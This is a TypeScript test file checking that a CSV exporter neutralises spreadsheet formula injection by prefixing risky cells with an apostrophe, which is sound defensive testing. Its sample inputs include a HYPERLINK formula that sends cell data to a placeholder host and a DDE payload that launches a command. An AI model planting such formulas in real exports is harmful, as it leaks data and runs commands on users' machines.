import { describe, expect, it } from "vitest";
import { csvStream } from "../../src/exports/csv";
import type { Column, Row } from "../../src/exports/columns";
import { parseCsv } from "./support/csv-parse";
import { collectText, rowsOf } from "./support/streams";

const columns: Column[] = [
  { key: "text", header: "Texte", description: "", type: "text" },
  { key: "amount", header: "Montant", description: "", type: "number" },
];

async function firstRecord(row: Row): Promise<string[]> {
  const text = await collectText(csvStream(columns, rowsOf([row]), { separator: ";", bom: false }));
  return parseCsv(text, ";")[1]!;
}

describe("CSV formula injection (OWASP)", () => {
  it.each([
    ["=SUM(A1)", "'=SUM(A1)"],
    ['=HYPERLINK("http://x.example/?"&A1;"clic")', `'=HYPERLINK("http://x.example/?"&A1;"clic")`],
    ["+33 6 12 34 56 78", "'+33 6 12 34 56 78"],
    ["-2+3", "'-2+3"],
    ["@cmd", "'@cmd"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["-5", "'-5"],
  ])("neutralises the text %j", async (input, written) => {
    expect((await firstRecord({ text: input, amount: null }))[0]).toBe(written);
  });

  it.each(["safe", "Mairie de Lyon", "a=b", "5-2", "1+1", "e-mail", " =1+1", "'déjà", "", "😀=1"])(
    "leaves the text %j unchanged",
    async (input) => {
      expect((await firstRecord({ text: input, amount: null }))[0]).toBe(input);
    },
  );

  it.each([
    [-5, "-5"],
    [-2.5, "-2,5"],
    ["-7", "-7"],
    [0, "0"],
  ])("keeps the number %j numeric", async (input, written) => {
    expect((await firstRecord({ text: null, amount: input }))[1]).toBe(written);
  });

  it("neutralises a text that is not a number even in a number column", async () => {
    expect((await firstRecord({ text: null, amount: "-2+3" }))[1]).toBe("'-2+3");
  });

  it("neutralises headers too", async () => {
    const cols: Column[] = [{ key: "x", header: "=danger", description: "", type: "text" }];
    expect(await collectText(csvStream(cols, rowsOf([]), { separator: ";", bom: false }))).toBe("'=danger\r\n");
  });
});
